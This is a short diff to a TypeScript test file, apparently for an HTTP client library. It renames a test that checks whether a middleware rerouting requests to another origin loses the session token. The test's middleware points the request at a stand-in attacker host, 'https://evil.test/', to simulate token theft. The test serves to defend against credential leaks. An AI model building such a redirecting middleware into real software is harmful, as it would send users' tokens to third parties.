@@ -149,7 +149,7 @@ test('request() sends the token to the own origin and to no other', async () => 
   expect(client.session.getSnapshot().status).toBe('active')
 })
 
-test('a middleware cannot take the token elsewhere', async () => {
+test('a middleware that changes the address to another origin loses the token', async () => {
   const sent: (string | null)[] = []
   const client = createTestClient({
     middleware: [(request, next) => next(new Request('https://evil.test/', request))],
